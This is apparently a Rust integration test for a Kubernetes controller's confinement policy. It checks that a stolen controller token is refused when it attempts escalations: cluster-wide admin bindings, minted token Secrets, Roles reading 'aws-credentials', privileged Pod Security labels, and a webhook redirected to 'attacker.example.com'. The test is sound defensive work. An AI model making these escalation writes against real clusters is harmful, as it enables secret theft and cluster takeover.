//! The controller's own token in an attacker's hands: every write its RBAC allows but its work
//! never needs is refused by the shipped policy `butler-controller-confinement` (cluster-admin
//! through a team role bound cluster-wide, a ClusterRole of its own making, another namespace
//! deleted, its webhooks pointed elsewhere), while a Team still gets its namespace and RBAC.

use butler_core::api::Team;
use k8s_openapi::api::admissionregistration::v1::ValidatingWebhookConfiguration;
use k8s_openapi::api::core::v1::Namespace;
use k8s_openapi::api::rbac::v1::{ClusterRole, ClusterRoleBinding, Role, RoleBinding};
use kube::api::{Api, DeleteParams, Patch, PatchParams, PostParams};
use serde_json::{Value, json};

use crate::support::{Scenario, api_message, install_shipped_webhooks, team_with_admin, wait_for};

/// The label that removes the scenario's cluster-wide objects with it.
const RUN: &str = "scenario.butlerlabs.dev/confinement";

/// Asserts the write was refused by the confinement policy.
fn confined<T: std::fmt::Debug>(result: Result<T, kube::Error>, what: &str) {
    match result {
        Err(kube::Error::Api(e)) if e.code == 403 && e.message.contains("butler-controller-confinement") => {}
        other => panic!("{what}: the controller's token was not refused by its policy: {other:?}"),
    }
}

fn object<T: serde::de::DeserializeOwned>(value: Value) -> T {
    serde_json::from_value(value).expect("a valid object")
}

#[tokio::test]
async fn the_controllers_token_writes_nothing_beyond_its_teams() {
    let s = Scenario::start().await;
    let run = s.cluster.unique("confined-run");
    s.cluster.remove_cluster_objects_labelled(&format!("{RUN}={run}"));
    let labels = json!({RUN: run});
    let token = s.controller_client_as("stolen-token").await;
    let admin_role = format!("butler-team-admin-{}", s.rbac);
    let me = json!({"kind": "ServiceAccount", "name": "butler-controller", "namespace": s.home});

    // The Team controller does its work under the policy.
    let team = team_with_admin(&s, "confined", "alice@example.com", "").await;
    let teams: Api<Team> = Api::all(s.client.clone());
    let team_ns = format!("team-{team}");

    // A team role bound cluster-wide to itself: Secrets everywhere.
    let bindings: Api<ClusterRoleBinding> = Api::all(token.clone());
    let everywhere = |name: &str, role: &str| -> ClusterRoleBinding {
        object(json!({"metadata": {"name": name, "labels": labels},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
            "subjects": [me]}))
    };
    confined(
        bindings.create(&PostParams::default(), &everywhere(&format!("{run}-admin"), &admin_role)).await,
        "binding the team admin role cluster-wide",
    );
    confined(
        bindings
            .create(&PostParams::default(), &everywhere(&format!("butler-team-{run}-admin"), &admin_role))
            .await,
        "a per-team name binding another role",
    );
    // A ClusterRole of its own making, with rights it holds (RBAC would allow it).
    let roles: Api<ClusterRole> = Api::all(token.clone());
    let grabbing: ClusterRole =
        object(json!({"metadata": {"name": format!("butler-team-{run}-member"), "labels": labels},
        "rules": [{"apiGroups": [""], "resources": ["namespaces"], "verbs": ["delete"]}]}));
    confined(roles.create(&PostParams::default(), &grabbing).await, "a per-team ClusterRole granting more");

    // What is not a team's: a namespace, its Roles and bindings, cluster-wide RBAC.
    let theirs = s.cluster.namespace("confined-theirs").await;
    let role: Role = object(json!({"metadata": {"name": "theirs", "namespace": theirs}, "rules": []}));
    Api::<Role>::namespaced(s.client.clone(), &theirs).create(&PostParams::default(), &role).await.unwrap();
    confined(
        Api::<Role>::namespaced(token.clone(), &theirs).delete("theirs", &DeleteParams::default()).await,
        "deleting a Role outside the teams",
    );
    let binding = |ns: &str, name: &str, role: &str, subject: Value| -> RoleBinding {
        object(json!({"metadata": {"name": name, "namespace": ns},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
            "subjects": [subject]}))
    };
    let user =
        json!({"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "mallory@example.com"});
    confined(
        Api::<RoleBinding>::namespaced(token.clone(), &theirs)
            .create(&PostParams::default(), &binding(&theirs, "grab", &admin_role, user.clone()))
            .await,
        "a RoleBinding outside the teams",
    );
    confined(
        Api::<RoleBinding>::namespaced(token.clone(), &team_ns)
            .create(&PostParams::default(), &binding(&team_ns, "grab", &admin_role, me.clone()))
            .await,
        "a team role bound to a ServiceAccount in a team's namespace",
    );
    let cluster_role: ClusterRole =
        object(json!({"metadata": {"name": format!("{run}-theirs"), "labels": labels}, "rules": []}));
    Api::<ClusterRole>::all(s.client.clone()).create(&PostParams::default(), &cluster_role).await.unwrap();
    confined(
        roles.delete(&format!("{run}-theirs"), &DeleteParams::default()).await,
        "deleting a ClusterRole",
    );
    // In a team's namespace: the kubeconfig Role and the quota by their names and shapes only.
    let team_roles: Api<Role> = Api::namespaced(token.clone(), &team_ns);
    let wide = |name: &str, names: Value| -> Role {
        object(json!({"metadata": {"name": name, "namespace": team_ns},
            "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"], "resourceNames": names}]}))
    };
    confined(
        team_roles.create(&PostParams::default(), &wide("reader", json!(["web-kubeconfig"]))).await,
        "a Role of another name in a team's namespace",
    );
    confined(
        team_roles
            .create(&PostParams::default(), &wide("butler-team-kubeconfigs-2", json!(["web-kubeconfig"])))
            .await,
        "a second kubeconfig Role",
    );
    let widened = Patch::Merge(
        json!({"rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"], "resourceNames": ["aws-credentials"]}]}),
    );
    confined(
        team_roles.patch("butler-team-kubeconfigs", &PatchParams::default(), &widened).await,
        "the kubeconfig Role reading a ProviderConfig's credentials",
    );
    let every =
        Patch::Merge(json!({"rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]}));
    confined(
        team_roles.patch("butler-team-kubeconfigs", &PatchParams::default(), &every).await,
        "the kubeconfig Role reading every Secret",
    );
    let someones: Role = object(json!({"metadata": {"name": "someones", "namespace": team_ns}, "rules": []}));
    Api::<Role>::namespaced(s.client.clone(), &team_ns)
        .create(&PostParams::default(), &someones)
        .await
        .unwrap();
    confined(
        team_roles.delete("someones", &DeleteParams::default()).await,
        "deleting a Role of someone else's in a team's namespace",
    );
    let quota = |ns: &str, name: &str| -> k8s_openapi::api::core::v1::ResourceQuota {
        object(json!({"metadata": {"name": name, "namespace": ns}, "spec": {"hard": {"pods": "0"}}}))
    };
    confined(
        Api::namespaced(token.clone(), &theirs)
            .create(&PostParams::default(), &quota(&theirs, "butler-team-objects"))
            .await,
        "a ResourceQuota outside the teams",
    );
    confined(
        Api::namespaced(token.clone(), &team_ns)
            .create(&PostParams::default(), &quota(&team_ns, "starve"))
            .await,
        "a ResourceQuota of another name in a team's namespace",
    );
    // Its own quota made to starve the team's pods instead (one limit, as few as before).
    let starving = Patch::Merge(json!({"spec": {"hard": {"pods": "0",
        "count/tenantclusters.butler.butlerlabs.dev": null, "count/providerconfigs.butler.butlerlabs.dev": null}}}));
    wait_for(
        &Api::<k8s_openapi::api::core::v1::ResourceQuota>::namespaced(s.client.clone(), &team_ns),
        "butler-team-objects",
        "made",
        |q| q.is_some(),
    )
    .await;
    confined(
        Api::<k8s_openapi::api::core::v1::ResourceQuota>::namespaced(token.clone(), &team_ns)
            .patch("butler-team-objects", &PatchParams::default(), &starving)
            .await,
        "the team's quota limiting pods instead of Butler's kinds",
    );
    confined(
        Api::<Namespace>::all(token.clone()).delete(&theirs, &DeleteParams::default()).await,
        "deleting another namespace",
    );
    // The operator's namespace label on a team namespace: the operator would install what a
    // provider object there names.
    let honoured =
        Patch::Merge(json!({"metadata": {"labels": {"operator.butlerlabs.dev/providers": "true"}}}));
    confined(
        Api::<Namespace>::all(token.clone()).patch(&team_ns, &PatchParams::default(), &honoured).await,
        "labelling a team namespace for the operator's providers",
    );
    let labelled: Namespace = object(json!({"metadata": {"name": format!("team-{run}-x"),
        "labels": {"operator.butlerlabs.dev/providers": "true"}}}));
    confined(
        Api::<Namespace>::all(token.clone()).create(&PostParams::default(), &labelled).await,
        "a team namespace made labelled for the operator's providers",
    );
    // Pod Security's labels of a team namespace: loosened, or removed.
    let privileged =
        Patch::Merge(json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}));
    confined(
        Api::<Namespace>::all(token.clone()).patch(&team_ns, &PatchParams::default(), &privileged).await,
        "a team namespace's Pod Security loosened",
    );
    // Secrets in its own namespace: a token of any account there, or any Secret of its choosing.
    let secrets: Api<k8s_openapi::api::core::v1::Secret> = Api::namespaced(token.clone(), &s.home);
    let minted = object(json!({"metadata": {"name": format!("{run}-token"),
        "annotations": {"kubernetes.io/service-account.name": "default"}},
        "type": "kubernetes.io/service-account-token"}));
    confined(secrets.create(&PostParams::default(), &minted).await, "a token Secret of another account");
    let planted = object(json!({"metadata": {"name": format!("{run}-planted")}, "stringData": {"k": "v"}}));
    confined(secrets.create(&PostParams::default(), &planted).await, "a Secret of another name");
    // Bindings of its own ClusterRole (it holds every right of it, so RBAC would allow them), and
    // of team roles to Kubernetes' own users and groups.
    let own_role = format!("butler-controller-{}", s.rbac);
    confined(
        Api::<RoleBinding>::namespaced(token.clone(), &team_ns)
            .create(&PostParams::default(), &binding(&team_ns, "grab-own", &own_role, user.clone()))
            .await,
        "the controller's own ClusterRole bound to a team member",
    );
    let viewer = format!("butler-team-viewer-{}", s.rbac);
    for (name, subject) in [
        (
            "everyone",
            json!({"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:authenticated"}),
        ),
        (
            "accounts",
            json!({"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:serviceaccounts"}),
        ),
        (
            "as-account",
            json!({"kind": "User", "apiGroup": "rbac.authorization.k8s.io",
            "name": format!("system:serviceaccount:{}:butler-controller", s.home)}),
        ),
    ] {
        confined(
            Api::<RoleBinding>::namespaced(token.clone(), &team_ns)
                .create(&PostParams::default(), &binding(&team_ns, name, &viewer, subject))
                .await,
            &format!("a team role bound to a system: subject ({name})"),
        );
    }
    let still = Api::<Namespace>::all(s.client.clone()).get(&theirs).await.unwrap();
    assert!(still.metadata.deletion_timestamp.is_none(), "the namespace stays");

    // Its webhook configurations: their CA bundle and failure policy, nothing else.
    if s.webhooks_allowed() {
        install_shipped_webhooks(&s, &s.home).await;
        let configurations: Api<ValidatingWebhookConfiguration> = Api::all(token.clone());
        let name = butler_controller::webhooks::registration::VALIDATING;
        let current = configurations.get(name).await.unwrap();
        let hooks = serde_json::to_value(current.webhooks.unwrap()).unwrap();
        let mut elsewhere = hooks.clone();
        elsewhere[0]["clientConfig"] = json!({"url": "https://attacker.example.com/"});
        confined(
            configurations
                .patch(name, &PatchParams::default(), &Patch::Merge(json!({"webhooks": elsewhere})))
                .await,
            "pointing a webhook elsewhere",
        );
        let mut narrower = hooks.clone();
        narrower[0]["rules"][0]["operations"] = json!(["DELETE"]);
        confined(
            configurations
                .patch(name, &PatchParams::default(), &Patch::Merge(json!({"webhooks": narrower})))
                .await,
            "changing a webhook's rules",
        );
        let mut ignoring = hooks;
        ignoring[0]["failurePolicy"] = json!("Ignore");
        let patched = configurations
            .patch(name, &PatchParams::default(), &Patch::Merge(json!({"webhooks": ignoring})))
            .await;
        assert!(
            patched.is_ok(),
            "the failure policy is the controller's: {:?}",
            patched.err().map(|e| api_message(&e))
        );
        crate::support::remove_webhook_configurations(&s).await;
    }
    teams.delete(&team, &DeleteParams::default()).await.unwrap();
    wait_for(&teams, &team, "gone", |t| t.is_none()).await;
}
